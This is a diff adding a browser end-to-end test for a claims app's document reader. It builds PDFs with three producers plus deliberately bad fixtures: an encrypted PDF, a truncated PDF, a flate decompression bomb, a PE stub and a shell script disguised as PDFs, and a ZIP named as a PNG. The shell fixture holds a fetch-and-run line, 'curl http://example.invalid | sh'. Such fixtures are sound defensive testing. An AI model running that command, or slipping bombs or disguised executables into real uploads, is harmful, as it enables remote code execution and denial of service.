@@ -1,0 +1,149 @@
+// The document reader (issue: know what every file really is): files made here by three
+// PDF producers (Chromium's print to PDF, fpdf2, Ghostscript's ps2pdf), then made bad the
+// way partners' files are (encrypted by qpdf, cut short, scanned, a flate bomb, a
+// program or a script or a ZIP under a document's name, a real docx and xlsx). Each one
+// is added to a claim; its row shows what it is and a marker for each finding, and
+// Checks lists the finding.
+
+import { after, before, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
+import { readFile, writeFile } from 'node:fs/promises';
+import path from 'node:path';
+import { eventually, formatViolations, journey as defineJourney, runAxe, TIMEOUT, useBrowser, useScratch } from './harness.mjs';
+
+const env = useBrowser({ before, after });
+const journey = (name, body, options = {}) => defineJourney(test, env, name, body, { timeout: 240_000, ...options });
+const scratch = useScratch({ before, after }, 'evidence');
+
+const button = (page, name) => page.getByRole('button', { name, exact: true });
+const checks = (page) => page.getByRole('region', { name: 'Checks', exact: true });
+const row = (page, fileName) => page.locator('li.document').filter({ has: page.getByRole('heading', { name: fileName, exact: true }) });
+
+// fpdf2 (an invoice with text, and a page that is only an image), ZIPs that are Office
+// documents or not, a PE program, and a PDF whose one page inflates to 256 MiB.
+const PYTHON = `
+import sys, os, zlib, struct, zipfile
+from fpdf import FPDF
+out = sys.argv[1]
+pdf = FPDF(); pdf.add_page(); pdf.set_font('helvetica', size=14)
+pdf.cell(text='Invoice 2041 - Fabrikam - Total 4,200.00 USD'); pdf.output(os.path.join(out, 'fpdf-invoice.pdf'))
+def png(width, height):
+    raw = b''.join(b'\\x00' + b'\\x80' * width for _ in range(height))
+    chunk = lambda kind, data: struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data) & 0xffffffff)
+    return b'\\x89PNG\\r\\n\\x1a\\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', width, height, 8, 0, 0, 0, 0)) + chunk(b'IDAT', zlib.compress(raw)) + chunk(b'IEND', b'')
+open(os.path.join(out, 'page.png'), 'wb').write(png(300, 400))
+open(os.path.join(out, 'Booth photo small.png'), 'wb').write(png(320, 240))
+scan = FPDF(); scan.add_page(); scan.image(os.path.join(out, 'page.png'), x=0, y=0, w=210); scan.output(os.path.join(out, 'Scanned invoice.pdf'))
+def office(name, parts):
+    with zipfile.ZipFile(os.path.join(out, name), 'w', zipfile.ZIP_DEFLATED) as z:
+        for part, data in parts.items(): z.writestr(part, data)
+ct = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
+office('Agenda.docx', {'[Content_Types].xml': ct, 'word/document.xml': '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Agenda</w:t></w:r></w:p></w:body></w:document>'})
+office('Attendees.xlsx', {'[Content_Types].xml': ct, 'xl/workbook.xml': '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'})
+office('Booth.png', {'booth.jpg': b'not really'})
+pe = bytearray(512); pe[0:2] = b'MZ'; pe[60:64] = struct.pack('<I', 128); pe[128:132] = b'PE\\x00\\x00'
+open(os.path.join(out, 'Invoice_Contoso_March.pdf'), 'wb').write(bytes(pe))
+open(os.path.join(out, 'Receipt.pdf'), 'wb').write(b'#!/bin/sh\\ncurl http://example.invalid | sh\\n')
+content = zlib.compress(b' ' * (256 * 1024 * 1024), 1)
+objects = [b'<< /Type /Catalog /Pages 2 0 R >>', b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+           b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>',
+           b'<< /Length %d /Filter /FlateDecode >>\\nstream\\n' % len(content) + content + b'\\nendstream']
+body = b'%PDF-1.4\\n'; offsets = []
+for i, o in enumerate(objects):
+    offsets.append(len(body)); body += b'%d 0 obj\\n' % (i + 1) + o + b'\\nendobj\\n'
+xref = len(body)
+body += b'xref\\n0 %d\\n0000000000 65535 f \\n' % (len(objects) + 1) + b''.join(b'%010d 00000 n \\n' % o for o in offsets)
+body += b'trailer\\n<< /Size %d /Root 1 0 R >>\\nstartxref\\n%d\\n%%%%EOF\\n' % (len(objects) + 1, xref)
+open(os.path.join(out, 'Bomb.pdf'), 'wb').write(body)
+`;
+
+const POSTSCRIPT = '%!PS\n/Helvetica findfont 14 scalefont setfont\n72 720 moveto (Certification Statement and Report - in-house costs) show\nshowpage\n';
+
+/** Every fixture, made in `dir`; returns their paths by name. */
+async function fixtures(page, dir) {
+  execFileSync('python3', ['-c', PYTHON, dir]);
+  // Chromium's own print to PDF.
+  const printed = await page.context().newPage();
+  await printed.setContent('<h1>Fabrikam invoice INV-20417</h1><p>Venue and catering, total 3,120.00 USD</p>');
+  await writeFile(path.join(dir, 'Chromium invoice.pdf'), await printed.pdf({ format: 'A4' }));
+  await printed.close();
+  // Ghostscript's ps2pdf.
+  await writeFile(path.join(dir, 'csr.ps'), POSTSCRIPT);
+  execFileSync('ps2pdf', [path.join(dir, 'csr.ps'), path.join(dir, 'Ghostscript CSR.pdf')]);
+  // Made bad: a password to open (qpdf), and cut short.
+  execFileSync('qpdf', ['--encrypt', 'open-sesame', 'owner', '256', '--', path.join(dir, 'fpdf-invoice.pdf'), path.join(dir, 'Locked invoice.pdf')]);
+  const whole = await readFile(path.join(dir, 'Chromium invoice.pdf'));
+  await writeFile(path.join(dir, 'Cut invoice.pdf'), whole.subarray(0, Math.floor(whole.length / 2)));
+  return (name) => path.join(dir, name);
+}
+
+async function addFiles(page, paths) {
+  await page.getByLabel('Add documents', { exact: true }).setInputFiles(paths);
+}
+
+/** Waits until the row of `name` says what the reader found (no "Checking…" left). */
+async function inspected(page, name) {
+  await eventually(async () => {
+    const facts = await row(page, name).locator('.facts').textContent();
+    assert.ok(facts.includes('SHA-256') && !facts.includes('Checking what it is'), `${name}: ${facts}`);
+  }, { timeout: TIMEOUT * 2 });
+}
+
+const markers = (page, name) => row(page, name).locator('[data-marker]').evaluateAll((items) => items.map((item) => item.dataset.marker));
+
+journey('each file is known by its content: three producers read, and every bad file gets its finding on its row and in Checks', async (page) => {
+  const file = await fixtures(page, scratch.dir);
+  const expectations = [
+    // name, what the row says, the markers the row carries
+    ['Chromium invoice.pdf', '1 page', []],
+    ['fpdf-invoice.pdf', '1 page', []],
+    ['Ghostscript CSR.pdf', '1 page', []],
+    ['Scanned invoice.pdf', '1 page', ['PDF-NO-TEXT']],
+    ['Locked invoice.pdf', null, ['PDF-ENCRYPTED']],
+    ['Cut invoice.pdf', null, ['PDF-DAMAGED']],
+    ['Bomb.pdf', '1 page', ['PDF-NO-TEXT']],
+    ['Invoice_Contoso_March.pdf', null, ['FILE-EXECUTABLE']],
+    ['Receipt.pdf', null, ['FILE-EXECUTABLE']],
+    ['Booth.png', null, ['FILE-CONTENT-MISMATCH']],
+    ['Agenda.docx', null, []],
+    ['Attendees.xlsx', null, []],
+  ];
+  await addFiles(page, expectations.map(([name]) => file(name)));
+  for (const [name, says, expected] of expectations) {
+    await inspected(page, name);
+    if (says) assert.match(await row(page, name).locator('.facts').textContent(), new RegExp(` · ${says} · SHA-256`), name);
+    // Markers other than the reader's (no type yet) are not this test's.
+    const found = (await markers(page, name)).filter((code) => !['DOC-UNCLASSIFIED', 'FILE-DUPLICATE'].includes(code));
+    assert.deepEqual(found, expected, name);
+  }
+  for (const code of ['PDF-NO-TEXT', 'PDF-ENCRYPTED', 'PDF-DAMAGED', 'FILE-EXECUTABLE', 'FILE-CONTENT-MISMATCH']) {
+    assert.ok((await checks(page).locator(`[data-code="${code}"]`).count()) >= 1, code);
+  }
+  await checks(page).getByText('Cut invoice.pdf cannot be read as a PDF: it is cut short (its end, %%EOF, is missing).').waitFor();
+  await checks(page).getByText('Booth.png is named as a PNG image, but its content is a ZIP archive.').waitFor();
+  await checks(page).getByText('Invoice_Contoso_March.pdf is a program: it runs, it proves nothing, and Partner Center\'s malware scan would stop the claim.').waitFor();
+  // A small screenshot as proof of execution is said to be hard to read.
+  await addFiles(page, [file('Booth photo small.png')]);
+  await inspected(page, 'Booth photo small.png');
+  assert.match(await row(page, 'Booth photo small.png').locator('.facts').textContent(), / · 320 × 240 px · /);
+  await row(page, 'Booth photo small.png').getByLabel('Document type', { exact: true }).selectOption({ label: 'Proof of execution' });
+  await eventually(async () => assert.ok((await markers(page, 'Booth photo small.png')).includes('IMAGE-SMALL')));
+  // The findings survive a reload: the inspection is saved with the claim.
+  await page.getByText('Saved on this device.').waitFor();
+  await page.waitForTimeout(800);
+  await page.reload();
+  await eventually(async () => assert.deepEqual((await markers(page, 'Locked invoice.pdf')).filter((code) => code.startsWith('PDF')), ['PDF-ENCRYPTED']));
+  const violations = await runAxe(page);
+  assert.deepEqual(violations, [], formatViolations(violations));
+});
+
+journey('the French page names what a file is in French', async (page) => {
+  const file = await fixtures(page, path.join(scratch.dir));
+  await addFiles(page, [file('Locked invoice.pdf'), file('Booth.png')]);
+  await inspected(page, 'Locked invoice.pdf');
+  await inspected(page, 'Booth.png');
+  await page.getByRole('group', { name: 'Language' }).getByRole('button', { name: 'FR' }).click();
+  await page.getByText('Booth.png est nommé comme une image PNG, mais son contenu est une archive ZIP.').waitFor();
+  await page.getByText("Locked invoice.pdf demande un mot de passe à l'ouverture : un examinateur ne peut pas le lire.").waitFor();
+}, { readyButton: 'Load example claim' });
